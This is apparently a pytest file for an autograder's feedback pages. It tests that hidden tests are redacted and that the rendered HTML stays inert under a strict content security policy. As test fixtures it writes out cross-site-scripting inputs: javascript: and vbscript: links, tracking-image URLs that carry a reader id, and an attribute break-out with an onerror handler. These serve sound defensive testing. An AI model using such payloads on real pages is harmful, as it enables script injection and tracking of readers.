"""autograder.results.feedback: redaction of hidden tests from sources, tracebacks and outputs (no execution)."""

from __future__ import annotations

import nbformat
import pytest

from autograder.isolate import sanitize
from autograder.receive import repair
from autograder.results import feedback
from autograder.results.scoring import CellResult, NotebookResult
from tests.autograder.support import active_or_external, make_course, make_spec, perfect

HIDDEN_LINE = "assert square(-4) == 16, 'square(-4) should be 16'"


@pytest.fixture(scope="module")
def executed(tmp_path_factory):
    course = make_course(tmp_path_factory)
    spec = make_spec(course, tmp_path_factory).notebook("a1_squares", "a1_squares")
    nb, _ = repair.prepare(perfect(course, "a1_squares"), spec)
    ids = [(c.metadata.get("nbgrader") or {}).get("grade_id") for c in nb.cells]
    square = spec.by_id()["square_tests"].source
    line = square.split("\n").index(HIDDEN_LINE) + 1
    nb.cells[ids.index("square_tests")].outputs = [
        nbformat.v4.new_output(
            "error",
            ename="AssertionError",
            evalue="square(-4) should be 16",
            traceback=[
                "\x1b[0;31mAssertionError\x1b[0m",
                f"Cell In[7], line {line}\n----> {line} {HIDDEN_LINE}",
            ],
        )
    ]
    nb.cells[ids.index("cube_tests")].outputs = [
        nbformat.v4.new_output(
            "error", ename="AssertionError", evalue="cube(2) should be 8",
            traceback=["Cell In[9], line 1\n----> 1 assert cube(2) == 8, 'cube(2) should be 8'"],
        )
    ]  # fmt: skip
    nb.cells[ids.index("cube")].outputs = [
        nbformat.v4.new_output("stream", name="stdout", text=f"spy: {HIDDEN_LINE}\n")
    ]
    result = NotebookResult("ada", "a1_squares", "a1_squares", 6.0)
    result.cells = [
        CellResult("square_tests", "test", 2.0, 0.0, "failed", "AssertionError"),
        CellResult("cube_tests", "test", 3.0, 0.0, "failed", "AssertionError"),
        CellResult("why", "manual", 1.0, None, "manual"),
    ]
    return spec, nb, result


def test_hidden_line_numbers_include_the_markers():
    src = "a = 1\n### BEGIN HIDDEN TESTS\nassert a\n### END HIDDEN TESTS\nb = 2"
    assert feedback.hidden_line_numbers(src) == {2, 3, 4}


def test_failure_location_says_hidden_or_quotes_the_visible_check(executed):
    spec, nb, _ = executed
    ids = [(c.metadata.get("nbgrader") or {}).get("grade_id") for c in nb.cells]
    square = nb.cells[ids.index("square_tests")]
    assert feedback.failure_location(square.outputs[0], square.source) == "in a hidden test"
    cube = nb.cells[ids.index("cube_tests")]
    assert "assert cube(2) == 8" in feedback.failure_location(cube.outputs[0], cube.source)


def test_redacted_feedback_has_scores_but_no_hidden_code(executed):
    spec, nb, result = executed
    safe = feedback.redact(nb, spec, result)
    text = nbformat.writes(safe)
    assert "BEGIN HIDDEN TESTS" not in text and HIDDEN_LINE not in text
    assert "[hidden test]" in text  # the spy print was redacted
    assert "square(-4) should be 16" in text  # the assertion message itself is feedback
    html = feedback.render_html(safe, result)
    assert HIDDEN_LINE not in html and "np.array([0.5, -2.5])" not in html
    assert "in a hidden test" in html and "Score: 0.0 / 6.0" in html


def test_the_page_runs_and_fetches_nothing_under_its_content_security_policy(executed):
    """Issue 19 attacks 4 and 5 in a feedback page: markdown, an HTML output, a text/markdown output."""
    spec, nb, result = executed
    nb = nbformat.from_dict(nb)
    nb.cells.insert(
        0, nbformat.v4.new_markdown_cell("[x](javascript\\:alert(1)) ![](http://host/p.png?reader=ada)")
    )
    nb.cells.insert(
        1, nbformat.v4.new_markdown_cell("[y][r] $\\sigma(x) = 1/(1+e^{-x})$\n\n[r]:\n  javascript:alert(2)")
    )
    html_out = {"text/html": "<img src=http://host/q.png?reader=ada><a href=https://numpy.org>np</a>"}
    md_out = {"text/markdown": "[z](vbscript:msgbox(1)) ![](//host/r.png?reader=ada)"}
    nb.cells.insert(2, nbformat.v4.new_code_cell("show()", outputs=[
        nbformat.v4.new_output("display_data", data=html_out), nbformat.v4.new_output("display_data", data=md_out)
    ]))  # fmt: skip
    page = feedback.render_html(feedback.redact(nb, spec, result), result)
    head = page[: page.index("<body")]
    assert f'<meta http-equiv="Content-Security-Policy" content="{feedback.CSP}">' in head
    assert feedback.CSP == "default-src 'none'; img-src data:; style-src 'unsafe-inline'"
    assert active_or_external(page) == []
    body = page[page.index("<body") :]  # (bootstrap's CSS in the head names a[href^="javascript:"])
    assert "<script" not in page and "javascript:" not in body and "vbscript:" not in body
    assert "np (https://numpy.org)" in page and "$\\sigma(x) = 1/(1+e^{-x})$" in page  # math shown as text
    assert "[image not shown: http://host/p.png?reader=ada]" in page  # as text, fetched by nobody
    assert "Score: 0.0 / 6.0" in page and 'class="panel panel-primary nbgrader_cell"' in page


def test_the_page_has_a_language_one_main_landmark_and_readable_links(executed):
    """Issue 23: what axe found missing in nbgrader's feedback template (tests/test_browser.py audits it)."""
    spec, nb, result = executed
    page = feedback.render_html(feedback.redact(nb, spec, result), result)
    assert page.count("<html") == 1 and '<html lang="en">' in page
    assert page.count("<main") == 1 and page.count("</main>") == 1
    assert page.index("<main") < page.index("Score: 0.0 / 6.0") < page.index("</main>")
    assert page.count("</body>") == 1 and page.rstrip().endswith("</body>\n</html>")
    head = page[: page.index("<body")]
    assert "text-decoration: underline" in head and "white-space: pre-wrap" in head
    assert feedback.finish_page("<p>no template</p>").count("<main>") == 1


def test_a_page_body_is_sanitized_as_a_whole_whatever_the_template_let_through():
    page = "<html><head><title>t</title><script src=https://cdn.example/m.js></script></head><body>"
    page += '<a name="top"></a><a href="#top">top</a><img src=http://host/p.png><iframe src=x></iframe></body></html>'
    final = feedback.finish_page(page)
    assert active_or_external(final) == [] and "cdn.example" not in final
    assert '<a name="top"></a><a href="#top">top</a><img>' in final
    assert sanitize.clean_page_body('<div class="x">ok</div>') == '<div class="x">ok</div>'


def test_a_value_the_template_writes_unescaped_cannot_break_out_of_its_attribute(executed):
    """nbgrader's template writes a cell's grade_id into ``href="#..."`` as it is: the page check
    sees the broken-out tag and the body is cleaned as a whole."""
    spec, nb, result = executed
    nb = feedback.redact(nb, spec, result)
    forged = nbformat.v4.new_markdown_cell("answer")
    gid = 'x"><img src="http://host/p.png?reader=gid" onerror="alert(1)'
    forged.metadata["nbgrader"] = {"grade": True, "solution": False, "grade_id": gid, "points": 1, "score": 0}
    nb.cells.insert(0, forged)
    resources = {"nbgrader": {"notebook": "a1", "assignment": "a1", "student": "ada", "score": 0.0,
                              "max_score": 6.0, "late_penalty": 0.0}}  # fmt: skip
    raw, _ = feedback._exporter().from_notebook_node(nb, resources=resources)
    assert "img src=http://host/p.png?reader=gid" in " ".join(
        active_or_external(raw)
    )  # the break-out is real
    assert active_or_external(feedback.finish_page(raw)) == []
    assert active_or_external(feedback.render_html(nb, result)) == []


def test_a_late_hand_in_says_how_late_and_what_it_cost_and_stays_inert(executed):
    from datetime import datetime, timedelta

    from autograder.results import late

    spec, nb, result = executed
    result = NotebookResult("ada", "a1_squares", "a1_squares", 6.0, cells=[
        CellResult("square_tests", "test", 2.0, 2.0, "passed"), CellResult("cube_tests", "test", 3.0, 3.0, "passed"),
        CellResult("why", "manual", 1.0, None, "manual"),
    ])  # fmt: skip
    due = datetime(2026, 12, 1)
    was = late.Lateness(due, due + timedelta(days=2, hours=3), fraction=0.2)
    page = feedback.render_html(feedback.redact(nb, spec, result), result, was.penalty(result.score))
    page = feedback.add_late_note(page, was.describe())
    assert "a1_squares (Score: 4.0 / 6.0)" in page and "Late submission penalty (Score: -1.0)" in page
    heading = page.index("a1_squares (Score: 4.0")
    note = page.index('<p class="late-note"><strong>Handed in 2 days 3 hours late: -20%</strong></p>')
    assert heading < note < page.index('<div id="toc">')  # right under the score
    assert active_or_external(page) == [] and sanitize.page_body_is_inert(page[page.index("<body>") + 6 :])
    assert feedback.add_late_note(page, "") == page
    assert "&lt;b&gt;" in feedback.add_late_note("<body><p>x</p></body>", "<b>")  # escaped, whatever it says


def test_a_renamed_hand_in_is_noted_at_the_top_as_plain_text():
    """The file name is the student's: markup in it is shown, never rendered (no link, no tag)."""
    result = NotebookResult("ada", "a1_squares", "a1_squares", 6.0)
    result.problems = [
        {"kind": "renamed", "grade_id": None, "detail": "[x](javascript:alert(1)) <b>a</b>.ipynb was graded"},
        {"kind": "timeout", "detail": "not a notice"},
    ]
    cell = feedback.notice_cell(result)
    assert cell.source.startswith("### Note from the grader\n\n**Your file was graded under another name.** ")
    assert "\\[x\\]\\(javascript:alert\\(1\\)\\) &lt;b&gt;a&lt;/b&gt;\\.ipynb was graded" in cell.source
    assert "not a notice" not in cell.source
    assert feedback.notice_cell(NotebookResult("ada", "a1_squares", "a1_squares", 6.0)) is None
